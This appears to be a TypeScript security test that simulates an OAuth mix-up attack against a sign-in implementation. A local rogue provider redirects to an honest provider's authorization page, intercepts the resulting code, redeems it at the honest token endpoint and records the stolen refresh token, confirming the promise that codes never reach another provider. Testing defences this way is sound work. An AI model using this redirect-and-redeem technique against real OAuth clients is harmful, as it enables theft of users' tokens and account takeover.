/**
 * A provider of mail leads the browser on to another provider, as if that were its own page, and has the code that the
 * operator gets there shown to itself, with all that it takes to redeem it.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Attack } from '../attack.ts'
import { clientOf, openSigningIn } from '../signing-in.ts'

export const attack: Attack = {
  name: 'sign-in-of-two-providers',
  promise: 'A code of one provider is never shown to another one.',
  mutant: 'providers-have-no-names',
  async run(stage) {
    let pageOfOther = ''
    let tokenOfOther = ''
    const stolen: string[] = []
    const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
      const url = new URL(request.url ?? '/', 'http://127.0.0.1')
      if (url.pathname === '/authorize') {
        response.writeHead(302, { location: `${pageOfOther}&${url.searchParams.toString()}` }).end()
        return
      }
      const form = new URLSearchParams(await textOf(request))
      const redeemed = await fetch(tokenOfOther, { method: 'POST', body: form })
      stolen.push(String(((await redeemed.json()) as { refresh_token?: string }).refresh_token))
      response.writeHead(400).end('{"error":"invalid_grant"}')
    }
    const evil = createServer((request, response) => {
      void answer(request, response).catch(() => response.destroy())
    })
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    stage.afterwards(() => new Promise((resolve) => evil.close(resolve).closeAllConnections()))
    const { port } = evil.address() as AddressInfo
    const { provider, add, signIn } = await openSigningIn(stage, [port])
    const honest = clientOf(provider)
    pageOfOther = honest.authorizationUrl ?? ''
    tokenOfOther = honest.tokenUrl
    const at = (path: string) => `http://127.0.0.1:${port}/${path}`
    await add('home', honest)
    await add('evil', {
      ...honest,
      authorizationUrl: at('authorize'),
      tokenUrl: at('token'),
      deviceUrl: null,
    })
    const atHome = await signIn('home')
    const atEvil = await signIn('evil')
    return {
      open: stolen.some((token) => provider.given.includes(token)),
      control: atHome === 'signed-in',
      saw: `at home: ${atHome}; by way of the other: ${atEvil}; ${stolen.length} codes shown`,
    }
  },
}

async function textOf(request: IncomingMessage): Promise<string> {
  let text = ''
  for await (const part of request) text += String(part)
  return text
}
